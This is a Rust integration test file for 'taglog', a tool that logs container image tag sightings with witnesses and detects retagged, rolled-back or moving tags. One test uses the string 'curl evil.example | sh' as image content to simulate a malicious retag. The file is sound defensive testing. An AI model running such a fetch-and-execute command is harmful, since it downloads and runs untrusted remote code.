//! `taglog` as its users run it, from the first observation of a tag to its detected move, with a real registry.

use taglog_proto::{name::Digest, note::VerifierKey, time::Timestamp};
use taglog_tests::cli_fixture::{User, add, pinned, wait};
use taglog_tests::{
    DataDirectory, Registry, Server, Witness,
    process::{TIMEOUT, wait_for},
    push_image,
    server::ORIGIN,
    witness::{digest, now},
};

const REPOSITORY: &str = "martes13/harmless";

/// A log that admits the witness whose key `taglog keygen` made for this user.
fn log_for(user: &User) -> (Server, String) {
    let made = user.run(&["keygen", "witness.example/ams-1"]).exits(0);
    let vkey = made.stdout.trim_end().to_owned();
    (DataDirectory::init().start_with(&["--witness", &vkey]), vkey)
}

/// The witness's id: its vkey without the key.
fn id_of(vkey: &str) -> String {
    let key: VerifierKey = vkey.parse().unwrap();
    format!("{}+{}", key.name(), key.key_id())
}

struct RetagFixture {
    user: User,
    registry: Registry,
    image: String,
    _server: Server,
    witness: String,
}

impl RetagFixture {
    fn new() -> RetagFixture {
        let user = User::new();
        let (server, vkey) = log_for(&user);
        user.run(&["init", &server.url, "--yes", "--vkey", &server.vkey.to_string()]).exits(0).prints(&[
            ORIGIN,
            &server.url,
            &server.vkey.to_string(),
            "Trusted from now on",
            &vkey,
        ]);
        let registry = Registry::start();
        let image = format!("{}:1.0", registry.repository(REPOSITORY));
        RetagFixture { user, registry, image, _server: server, witness: id_of(&vkey) }
    }

    fn push(&self, content: &str) -> Digest {
        push_image(&self.registry, REPOSITORY, "1.0", content)
    }

    fn observe(&self) {
        self.user.run(&["observe", &self.image]).exits(0).prints(&[
            &self.image,
            "as entry",
            "manifest kept by the log",
        ]);
    }

    /// The digests in the history, oldest first, with whether each is marked as a rollback.
    fn history(&self) -> Vec<(String, bool)> {
        let answer = self.user.run_json(&["history", &self.image]).exits(0).json();
        let sightings = answer["history"]["sightings"].as_array().unwrap().clone();
        let row = |row: &serde_json::Value| (row["digest"].as_str().unwrap().to_owned(), row["rollback"] == true);
        sightings.iter().map(row).collect()
    }
}

#[test]
fn a_moved_tag_is_detected_and_stays_on_record() {
    let fixture = RetagFixture::new();
    let (user, image) = (&fixture.user, fixture.image.as_str());
    let first = fixture.push("harmless");
    fixture.observe();
    user.run(&["verify", image]).exits(0).prints(&["ok ", image, "1 witness vouches", ORIGIN]);
    user.run(&["verify", "--print-digest", image]).exits(0).prints(&[&first.to_string()]);

    let second = fixture.push("curl evil.example | sh");
    user.run(&["verify", image]).exits(1).prints(&["mismatch", &first.to_string(), &second.to_string()]);

    fixture.observe();
    let retagged = user.run(&["verify", image]).exits(1);
    let retagged = retagged.prints(&["retagged", "2 different digests", &first.to_string(), &second.to_string()]);
    assert!(retagged.stdout.matches(&fixture.witness).count() >= 2, "who saw each: {retagged:?}");
    let times = retagged.stdout.split_whitespace().filter(|word| word.parse::<Timestamp>().is_ok()).count();
    assert!(times >= 3, "two sightings and the seal: {retagged:?}");

    // Within one second, the same witness saying the same again is a duplicate, whatever came between.
    let second_began = now();
    wait_for("the next second", TIMEOUT, || (now() > second_began).then_some(()));
    let third = fixture.push("harmless");
    assert_eq!(third, first, "the same content is the same digest");
    fixture.observe();
    let [a, b] = [first.to_string(), second.to_string()];
    assert_eq!(fixture.history(), [(a.clone(), false), (b.clone(), false), (a.clone(), true)], "newest last");
    let history = user.run(&["history", image]).exits(0).stdout;
    let lines: Vec<&str> = history.lines().collect();
    assert_eq!(lines[0], image);
    assert!(lines[1].contains(&a) && lines[2].contains(&b) && lines[3].contains(&a), "{history}");
    assert!(lines[3].contains("rolled back") && history.matches("rolled back").count() == 1, "{history}");
    user.run(&["verify", image]).exits(1).prints(&["retagged", "rolled back", "including the one that is evaluated"]);
}

#[test]
fn json_has_everything_that_the_text_has() {
    let fixture = RetagFixture::new();
    let served = fixture.push("harmless").to_string();
    fixture.observe();
    let answer = fixture.user.run_json(&["verify", &fixture.image]).exits(0).json();
    let image = &answer["images"][0];
    assert_eq!((&answer["passes"], &answer["errors"]), (&true.into(), &serde_json::json!([])));
    assert_eq!((&image["image"], &image["verdict"]), (&fixture.image.as_str().into(), &"ok".into()));
    assert_eq!((&image["served"], &image["digest"]), (&served.as_str().into(), &served.as_str().into()));
    let history = &image["logs"][0]["history"];
    let (sighting, witness) = (&history["sightings"][0], &history["witnesses"][0]);
    assert_eq!(
        (&sighting["digest"], &sighting["witness"]),
        (&served.as_str().into(), &fixture.witness.as_str().into())
    );
    assert_eq!(
        (&witness["sightings"], &witness["complete"], &witness["inRoster"]),
        (&1.into(), &true.into(), &true.into())
    );
    assert!(sighting["observed"].as_str().unwrap().parse::<Timestamp>().is_ok(), "{sighting}");
    let log = &answer["logs"][0];
    assert_eq!(log["origin"], ORIGIN);
    assert!(log["size"].as_u64().unwrap() > 2 && log["tags"] == 1 && log["ageSeconds"].as_u64().unwrap() < 60, "{log}");

    let other = fixture.push("other").to_string();
    let answer = fixture.user.run_json(&["verify", &fixture.image]).exits(1).json();
    assert_eq!((&answer["passes"], &answer["images"][0]["verdict"]), (&false.into(), &"mismatch".into()));
    assert_eq!((&answer["images"][0]["served"], &answer["images"][0]["digest"]), (&other.into(), &().into()));
}

#[test]
fn only_digests_that_pass_are_printed() {
    let fixture = RetagFixture::new();
    let good = fixture.push("harmless");
    fixture.observe();
    let repository = fixture.registry.repository(REPOSITORY);
    let printed = fixture.user.run(&["verify", "--print-digest", &fixture.image]).exits(0);
    assert_eq!((printed.stdout, printed.stderr), (format!("{repository}@{good}\n"), String::new()));
    let pinned = format!("{}@{good}", fixture.image);
    assert_eq!(
        fixture.user.run(&["verify", "--print-digest", &pinned]).exits(0).stdout,
        format!("{repository}@{good}\n")
    );

    // One that fails withholds the others too: a deploy is all or nothing.
    push_image(&fixture.registry, "team/unseen", "1.0", "unseen");
    let unseen = format!("{}:1.0", fixture.registry.repository("team/unseen"));
    let failed = fixture.user.run(&["verify", "--print-digest", &fixture.image, &unseen]).exits(1).has_empty_stdout();
    failed.prints(&[&unseen, "uncovered"]);
    fixture.push("evil");
    fixture.user.run(&["verify", "--print-digest", &fixture.image]).exits(1).has_empty_stdout().prints(&["mismatch"]);
}

#[test]
fn several_images_in_one_run() {
    let fixture = RetagFixture::new();
    fixture.push("harmless");
    let tools = push_image(&fixture.registry, "team/tools", "2.0", "tools");
    let tools_image = format!("{}:2.0", fixture.registry.repository("team/tools"));
    fixture.user.run(&["observe", &fixture.image, &tools_image]).exits(0).prints(&[&tools.to_string()]);
    push_image(&fixture.registry, "team/tools", "3.0", "tools 3");
    let unknown = format!("{}:3.0", fixture.registry.repository("team/tools"));
    fixture.push("evil");

    let images = [fixture.image.as_str(), &tools_image, &unknown, &tools_image];
    let answer = fixture.user.run_json(&[&["verify"][..], &images].concat()).exits(1).json();
    let rows = answer["images"].as_array().unwrap().iter();
    let verdicts: Vec<(&str, &str)> =
        rows.map(|r| (r["image"].as_str().unwrap(), r["verdict"].as_str().unwrap())).collect();
    let want = [(images[0], "mismatch"), (images[1], "ok"), (images[2], "unknown")];
    assert_eq!(verdicts, want, "in the order of the command line, each once");
    fixture.user.run(&["verify", &tools_image, &tools_image]).exits(0).prints(&["ok"]);
    let contradiction = [format!("{tools_image}@{tools}"), pinned(&tools_image, "x")];
    fixture
        .user
        .run(&["verify", &contradiction[0], &contradiction[1]])
        .exits(2)
        .prints(&["twice", "different digests"]);
}

#[test]
fn an_unreachable_registry_does_not_prevent_other_verdicts() {
    let fixture = RetagFixture::new();
    fixture.push("harmless");
    fixture.observe();
    let gone = Registry::start();
    push_image(&gone, "team/app", "1.0", "app");
    let down = format!("{}:1.0", gone.repository("team/app"));
    fixture.user.run(&["observe", &down]).exits(0);
    let host = gone.host.clone();
    drop(gone);
    fixture.user.run(&["verify", &down, &fixture.image]).exits(3).prints(&[
        "ok ",
        &fixture.image,
        &host,
        "cannot reach",
    ]);
    let answer = fixture.user.run_json(&["verify", &fixture.image, &down]).exits(3).json();
    assert_eq!((&answer["passes"], &answer["images"][0]["verdict"]), (&false.into(), &"ok".into()));
    assert!(answer["errors"][0].as_str().unwrap().contains(&down), "{answer}");
    fixture.user.run(&["verify", "--print-digest", &fixture.image, &down]).exits(3).has_empty_stdout().prints(&[&down]);
    // A failing verdict is more severe than an unreachable registry.
    fixture.push("evil");
    fixture.user.run(&["verify", &down, &fixture.image]).exits(1).prints(&["mismatch", &host]);
    // The log alone knows the history, whatever the registry does; and a digest is not asked for.
    fixture.user.run(&["history", &down]).exits(0).prints(&[&down]);
    fixture.user.run(&["verify", &pinned(&down, "x")]).exits(1).prints(&["mismatch"]);
}

#[test]
fn tags_that_may_move() {
    let fixture = RetagFixture::new();
    let old = fixture.push("one");
    fixture.observe();
    let new = fixture.push("two");
    fixture.observe();
    let (user, image) = (&fixture.user, fixture.image.as_str());
    let moving = ["--moving", "1.0", image];
    assert_eq!(user.verdict(&[image]), "retagged");
    assert_eq!(user.verdict(&moving), "moving");
    assert_eq!(user.verdict(&["--moving", "2.0", image]), "retagged", "another tag may move");
    fixture.push("one");
    assert_eq!(user.verdict(&moving), "behind");
    user.run(&[&["verify"][..], &moving].concat()).exits(1).prints(&["behind", &old.to_string(), &new.to_string()]);
    let unseen = fixture.push("three");
    assert_eq!(user.verdict(&moving), "mismatch");
    user.run(&[&["verify"][..], &moving].concat()).exits(1).prints(&["no witness has seen", &unseen.to_string()]);
    fixture.observe();
    let printed = user.run(&["verify", "--print-digest", "--moving", "1.0", image]).exits(0);
    assert_eq!(printed.stdout, format!("{}@{unseen}\n", fixture.registry.repository(REPOSITORY)));
}

#[test]
fn latest_is_the_default_tag_and_may_move() {
    let witness = Witness::new(1);
    let server = Server::start(&[&witness], "");
    let registry = Registry::start();
    let name = registry.repository("team/app");
    let user = User::witnessing(&server, &witness);
    for content in ["one", "two"] {
        push_image(&registry, "team/app", "latest", content);
        user.run(&["observe", &name]).exits(0).prints(&[&format!("{name}:latest")]);
    }
    assert_eq!(user.verdict(&[&name]), "moving");
    assert_eq!(user.verdict(&[&format!("{name}:latest")]), "moving");
    user.run(&["history", &name]).exits(0).prints(&[&format!("{name}:latest")]);
}

#[test]
fn a_log_url_on_the_command_line_replaces_the_one_in_the_trust_file() {
    let witness = Witness::new(1);
    let server = Server::start(&[&witness], "");
    add(&server, &[witness.observe(taglog_tests::cli_fixture::APP, "a", now())]);
    let user = User::new();
    user.write("trust", format!("log {}\nquorum none\n", server.vkey));
    let image = pinned(taglog_tests::cli_fixture::APP, "a");
    user.run(&["verify", &image]).exits(2).prints(&["no address", "--log"]);
    user.run(&["verify", &image, "--log", &server.url]).exits(0).prints(&["ok"]);
    user.run(&["--log", &format!("{}/", server.url), "verify", &image]).exits(0).prints(&["ok"]);
    let mut command = user.command(&["verify", &image]);
    let output = command.env("TAGLOG_LOG", &server.url).output().unwrap();
    assert!(output.status.success(), "{output:?}");
    assert_eq!(user.remembered(), [wait(server.checkpoint()).to_string()]);
    assert!(
        user.run(&["verify", "--print-digest", &image, "--log", &server.url]).stdout.contains(&digest("a").to_string())
    );
}
